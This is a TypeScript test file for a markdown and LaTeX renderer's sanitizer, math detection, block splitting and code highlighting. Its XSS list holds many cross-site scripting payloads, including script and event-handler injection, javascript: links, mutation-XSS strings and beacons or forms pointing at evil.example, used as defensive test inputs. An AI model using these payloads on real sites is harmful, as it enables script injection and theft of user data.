import { readFileSync } from "node:fs";
import { resolve } from "node:path";
import fc from "fast-check";
import { describe, expect, test, vi } from "vitest";
import { blocks, code, inlineMarkdown, markdown, sanitize } from "../src/text/markdown";

interface Case {
  text: string;
  inline: number;
  display: number;
}

const FORMULAE: Case[] = JSON.parse(readFileSync(resolve("../tests/data/formulae.json"), "utf8"));

function html(fragment: DocumentFragment): string {
  const element = document.createElement("div");
  element.append(fragment);
  return element.innerHTML;
}

// Written out once more: a tag or attribute that is added to the lists in the source needs a second thought here.
const TAGS = new Set(
  `a blockquote br code del div em h1 h2 h3 h4 h5 h6 hr li ol p pre span strong sub sup table tbody td th thead tr ul math
  menclose merror mfrac mi mmultiscripts mn mo mover mpadded mphantom mprescripts mroot mrow ms mspace msqrt mstyle msub
  msubsup msup mtable mtd mtext mtr munder munderover`.split(/\s+/),
);
const ATTRIBUTES = new Set(
  `align class href start title rel target accent accentunder columnalign columnlines columnspan columnspacing depth dir
  display displaystyle fence form frame height largeop linethickness lspace mathsize mathvariant maxsize minsize
  movablelimits notation rowlines rowspacing rowspan rspace scriptlevel separator stretchy style symmetric voffset width`
    .split(/\s+/),
);

/** What must not be in any output, whatever went in. */
function expectHarmless(fragment: DocumentFragment, payload: string): void {
  for (const element of fragment.querySelectorAll("*")) {
    expect(TAGS.has(element.localName), `<${element.localName}> from ${payload}`).toBe(true);
    for (const { name, value } of element.attributes) {
      expect(ATTRIBUTES.has(name), `${name} from ${payload}`).toBe(true);
      if (name === "href") {
        expect(element.localName, payload).toBe("a");
        expect(value, payload).toMatch(/^(https?:\/\/|mailto:)/i);
        expect(element.getAttribute("rel")).toContain("noopener");
      }
      if (name === "style") {
        expect(element.namespaceURI, payload).toContain("MathML");
        expect(value, payload).not.toMatch(/[("'\\]|position|behavior|binding/i);
      }
      if (name === "class") expect(value, payload).not.toMatch(/jp-|lm-|o1-(?!tex|display|tight|t-[a-z_]+)/);
    }
  }
}

const XSS = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src=//evil.example/beacon.png>",
  "<img srcset='//evil.example/a 1x'>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+#x'/></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
  "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:alert(1)'>x</maction></math>",
  "<math href='javascript:alert(1)'><mi>x</mi></math>",
  "<math href='https://evil.example'><mi href='https://evil.example'>x</mi></math>",
  "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
  "<math><mi style='background:url(//evil.example/x)'>x</mi></math>",
  "<math><mi style='position:fixed;inset:0;width:100%'>x</mi></math>",
  "<math><mstyle style='color:expression(alert(1))'>x</mstyle></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data='javascript:alert(1)'></object>",
  "<embed src='//evil.example/x.swf'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css'; body{display:none}</style>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<base href='//evil.example/'>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video src=//evil.example/x onloadstart=alert(1)></video>",
  "<video poster=//evil.example/x.png></video>",
  "<audio src=x onerror=alert(1)></audio>",
  "<input autofocus onfocus=alert(1)>",
  "<button formaction='javascript:alert(1)'>x</button>",
  "<form action='//evil.example'><input name=password></form>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='jav&#x09;ascript:alert(1)'>x</a>",
  "<a href=' &#14; javascript:alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<a href='//evil.example' ping='//evil.example'>x</a>",
  "<a href='/lab/tree/x' id=clobber name=clobber>x</a>",
  "<a href='blob:https://x/1'>x</a>",
  "<table background=//evil.example/x.png><tr><td>x</table>",
  "<div style='background:url(//evil.example/x)'>x</div>",
  "<div style='position:fixed;inset:0;background:#fff'>over everything</div>",
  "<p class='jp-Dialog lm-Widget o1-stop'>x</p>",
  "<div data-commandlinker-command='console:create' data-commandlinker-args='{}'>x</div>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><script>alert(1)</script></template>",
  "<textarea><script>alert(1)</script></textarea>",
  "<title><img src=x onerror=alert(1)></title>",
  "<x-widget is=evil onclick=alert(1)>x</x-widget>",
  "<p onclick=alert(1) onmouseover=alert(1)>x</p>",
  "<<script>script>alert(1)<</script>/script>",
  "<!--<img src='--><img src=x onerror=alert(1)//'>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
  "[x](https://e.example \"<img src=x onerror=alert(1)>\")",
  "```x' onmouseover='alert(1)\nx\n```",
  "```\"><img src=x onerror=alert(1)>\nx\n```",
  "$$x \\tag{<img src=x onerror=alert(1)>}$$",
  "$$x \\label{\" onmouseover=\"alert(1)}$$",
  "$x \\label{' id='clobber} \\ref{x}$",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](//evil.example)",
  "[x](<javascript:alert(1)>)",
  "[x]: javascript:alert(1)\n\n[x]",
  "<javascript:alert(1)>",
  "![x](https://evil.example/beacon.png)",
  "![x](javascript:alert(1))",
  "![x\" onerror=\"alert(1)](x)",
  "[a](https://x.example/\" onmouseover=\"alert(1))",
  "[a](https://x.example 'title\" onmouseover=\"alert(1)')",
  "```html\" onmouseover=alert(1)\n<script>alert(1)</script>\n```",
  "```jp-x\" class=\"jp-Dialog\nx\n```",
  "`<img src=x onerror=alert(1)>`",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\url{javascript:alert(1)}$",
  "$\\includegraphics{https://evil.example/x.png}$",
  "$\\htmlStyle{background:url(//evil.example)}{x}$",
  "$\\class{jp-Dialog}{x} \\id{clobber}{x} \\data{a=b}{x}$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  "$$<script>alert(1)</script>$$",
  "\\(\\unknown{<svg onload=alert(1)>}\\)",
  "\\boxed{<iframe src=javascript:alert(1)>}",
  "$\\color{red;background:url(//evil.example)}{x}$",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
  "# <img src=x onerror=alert(1)>",
];

describe("hostile text", () => {
  test.each(XSS)("%s", (payload) => {
    expectHarmless(sanitize(payload), payload);
    expectHarmless(markdown(payload), payload);
    expectHarmless(inlineMarkdown(payload), payload);
  });

  test("any mixture of it", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...XSS, "$", "$$", "`", "```", "\n\n", "\\[", "<", ">", "*"), { maxLength: 8 }), (parts) => {
        expectHarmless(markdown(parts.join("")), parts.join(""));
        expectHarmless(sanitize(parts.join("")), parts.join(""));
      }),
      { numRuns: 100 },
    );
  });

  test("raw HTML is shown as it was written, so that nothing a model says gets lost", () => {
    const fragment = markdown("A `List<String>` is a List<String>.\n\n<answer>42</answer>");
    expect(fragment.textContent).toContain("a List<String>.");
    expect(fragment.textContent).toContain("<answer>42</answer>");
    expect(html(markdown("H<sub>2</sub>O<br>next"))).toBe("<p>H<sub>2</sub>O<br>next</p>\n");
  });

  test("a safe link opens elsewhere and gives nothing away; an unsafe one is only its text", () => {
    const [safe, unsafe] = markdown("[a](https://x.example/1) [b](javascript:x)").querySelectorAll("a");
    expect(safe?.getAttribute("href")).toBe("https://x.example/1");
    expect(safe?.target).toBe("_blank");
    expect(safe?.rel).toBe("noopener noreferrer nofollow");
    expect(unsafe?.textContent).toBe("b");
    expect(unsafe?.hasAttribute("href")).toBe(false);
  });

  test("a picture is its description", () => {
    expect(markdown("![a cat](https://x.example/cat.png)").textContent?.trim()).toBe("[image: a cat]");
  });

  test("text that turns its surroundings around is disarmed", () => {
    expect(markdown("a\u202eb\u2066c\u0007").textContent?.trim()).toBe("a\ufffdb\ufffdc\ufffd");
  });
});

describe("mathematics", () => {
  test.each([
    ["$x^2$", 1],
    ["so $n = 7 \\times 12$.", 1],
    ["$$x$$", 1],
    ["\\(a\\) and \\[b\\]", 2],
    ["a\n\n\\[\nx = 1\n\\]\n\nb", 1],
    ["\\boxed{\\frac{1}{2}}", 1],
    ["**$x$**", 1],
    ["| $a$ | b |\n|---|---|\n| $c$ | d |", 2],
    ["- $a$\n- $b$", 2],
    ["设$x$为总数", 1],
    ["3$\\times$ 4", 1],
    ["$5x + 3$ and $2$", 2],
    ["\\begin{align}a &= b \\\\ c &= d\\end{align}", 1],
    ["$2 \\text{ apples}$", 1],
  ])("%s", (source, formulas) => {
    const fragment = markdown(source);
    expect(fragment.querySelectorAll("math")).toHaveLength(formulas);
    expect(fragment.querySelector(".o1-tex")).toBeNull();
  });

  test.each([
    "$5 and $6",
    "It costs $5.",
    "It costs $5, and that is 6$ more",
    "$5 apples and 3$",
    "US$5 or US$6",
    "from $10-$20",
    "a $ b $ c",
    "100$ or 200$",
    "\\$5 and \\$6",
    "`$x$`",
    "```\n$x$\n```",
    "price: $1,000 to $2,000.",
    "$$ a lot",
    "\\[ never closed",
    "\\boxed{never closed",
  ])("is not found in: %s", (source) => {
    expect(markdown(source).querySelector("math")).toBeNull();
    expect(markdown(source).querySelector(".o1-tex")).toBeNull();
  });

  test.each([
    ["\\[\n\\begin{aligned}\n2x + y &= 5 \\\\\n x - y &= 1\n\\end{aligned}\n\\]", 2, 2],
    ["$$|x| = \\begin{cases} x & x \\ge 0 \\\\ -x & x < 0 \\end{cases}$$", 2, 2],
    ["$A = \\begin{pmatrix} 1 & 2 \\\\ 3 & 4 \\end{pmatrix}$", 2, 2],
    ["\\begin{bmatrix} 1 & 2 \\\\ 3 & 4 \\end{bmatrix}", 2, 2],
    ["\\begin{align*}\na &= b \\\\\n  &= c \\\\\n  &= \\boxed{d}\n\\end{align*}", 3, 2],
    ["\\begin{gather}x\\\\y\\end{gather}", 2, 1],
    ["$$\\left[\\begin{array}{cc|c} 1 & 0 & 3 \\\\ 0 & 1 & 4 \\end{array}\\right]$$", 2, 3],
    ["$$\\det\\begin{vmatrix} a & b \\\\ c & d \\end{vmatrix} = \\sum_{i} x_i$$", 2, 2],
  ])("%s has its rows and columns", (source, rows, columns) => {
    const fragment = markdown(source);
    expect(fragment.querySelector(".o1-tex")).toBeNull();
    const [table] = fragment.querySelectorAll("mtable");
    expect(table?.querySelectorAll(":scope > mtr").length ?? 0).toBe(rows);
    if (columns) expect(table?.querySelector("mtr")?.querySelectorAll(":scope > mtd").length).toBeGreaterThanOrEqual(columns);
  });

  test.each(FORMULAE)("$text has what the record has", ({ text, inline, display }) => {
    const fragment = markdown(text);
    expect(fragment.querySelectorAll("math:not([display])")).toHaveLength(inline);
    expect(fragment.querySelectorAll("math[display]")).toHaveLength(display);
    expect(fragment.querySelector(".o1-tex")).toBeNull();
  });

  test("displayed mathematics is displayed", () => {
    expect(markdown("$$x$$").querySelector("math")?.getAttribute("display")).toBe("block");
    expect(markdown("$x$").querySelector("math")?.hasAttribute("display")).toBe(false);
  });

  test("LaTeX that cannot be read is shown as it was written", () => {
    expect(html(markdown("a $\\frac{1$ b"))).toContain('<code class="o1-tex">$\\frac{1$</code>');
    expect(html(markdown(`$${"x+".repeat(6000)}1$`))).toContain("o1-tex");
  });

  test("a per cent sign is no comment", () => expect(markdown("$50% + 1$").textContent).toContain("%"));

  test("a full stop stays with its formula", () => {
    expect(markdown("so $x$.").querySelector(".o1-tight")?.textContent).toBe("x.");
  });

  test("what a model boxes keeps its box, and its colours are ours", () => {
    expect(html(markdown("$\\boxed{5}$"))).toContain("border:1px solid");
    expect(html(markdown("$\\color{white}{5}$"))).not.toContain("color");
  });
});

describe("blocks", () => {
  test("joined they are the text", () => {
    const piece = fc.constantFrom("a", "\n", "\n\n", "# h", "- l", "  ", "```", "$$", "\\[", "\\]", "> q", "| a |", "|---|", "---", "<div>", "\t");
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
        const text = pieces.join("");
        expect(blocks(text).join("")).toBe(text);
        // Nor does a cut fall where there is no block's end.
        const whole = markdown(text).textContent?.replace(/\s+/g, "");
        const parts = blocks(text).map((block) => markdown(block).textContent?.replace(/\s+/g, ""));
        expect(parts.join("")).toBe(whole);
      }),
    );
  });

  test("a fence and displayed mathematics are one block", () => {
    expect(blocks("a\n\n```\nx\n\ny\n```\n\n$$\nx\n\ny\n$$\nb").map((block) => block.trim())).toEqual([
      "a",
      "```\nx\n\ny\n```",
      "$$\nx\n\ny\n$$",
      "b",
    ]);
  });
});

describe("hostile sizes take little time", () => {
  test.each([
    ["\\[ "],
    ["\\( "],
    ["$ "],
    ["$x "],
    ["$$ "],
    ["\\boxed{"],
    ["\\begin{align} "],
    ["`"],
    ["["],
    ["<"],
    ["**a "],
    ["_a "],
    ["> "],
    ["![a]("],
    ["| a "],
    ["{"],
  ])("%s many times", (piece) => {
    const start = performance.now();
    markdown(piece.repeat(Math.ceil(8000 / piece.length)));
    expect(performance.now() - start).toBeLessThan(5000);
  });
});

describe("code", () => {
  const tokens = (source: string): string[] => [...markdown(source).querySelectorAll("code > span")].map((span) => `${span.className} ${span.textContent}`);

  test("is coloured where its language is named", () => {
    expect(tokens("```python\nx = 1  # one\n```")).toEqual(["o1-t-number 1", "o1-t-comment # one"]);
    expect(tokens("~~~js title=x\nlet x\n~~~")).toEqual(["o1-t-keyword let"]);
    expect(code("True", "python").textContent).toBe("True");
  });

  test.each(["", "text", "brainfuck", "constructor", "__proto__", "html"])("is plain where that is %j", (language) => {
    const fragment = markdown(`\`\`\`${language}\nif x: return "<b>1</b>"\n\`\`\``);
    expect(fragment.querySelector("span, b")).toBeNull();
    expect(fragment.querySelector("pre > code")?.textContent).toBe('if x: return "<b>1</b>"\n');
  });

  test("is plain where there is very much of it", () => {
    expect(markdown(`\`\`\`python\n${"x = 1\n".repeat(10_000)}\`\`\``).querySelector("span")).toBeNull();
  });
});

describe("a text that is rendered again", () => {
  test("is the same, and what was made of it first stays where it is", () => {
    const first = document.createElement("div");
    first.append(markdown("Some **bold** words"));
    expect(html(markdown("Some **bold** words"))).toBe(first.innerHTML);
    expect(first.textContent?.trim()).toBe("Some bold words");
    first.querySelector("strong")?.replaceChildren("other");
    expect(html(markdown("Some **bold** words"))).toContain("<strong>bold</strong>");
  });

  test("takes no more than a clone, as does a line without marks", () => {
    const made = vi.spyOn(DOMParser.prototype, "parseFromString");
    for (let i = 0; i < 3; i += 1) html(markdown("Once and *for* all"));
    expect(made).toHaveBeenCalledTimes(1);
    inlineMarkdown("Divide, and conquer (again)");
    expect(made).toHaveBeenCalledTimes(1);
    made.mockRestore();
  });

  test("as a line without marks is what Marked makes of it", () => {
    const piece = fc.constantFrom("a", "Ω", "字", "7", " ", ",", ";", "?", "'", '"', "(", ")", "+", "=", "%", "-", "- ", "1", "  ");
    fc.assert(
      fc.property(fc.array(piece, { minLength: 1, maxLength: 12 }), (pieces) => {
        const text = pieces.join("");
        // A mark at the end sends the whole line to Marked.
        expect(`${html(inlineMarkdown(text))}<code>x</code>`).toBe(html(inlineMarkdown(`${text}\`x\``)));
      }),
    );
  });
});
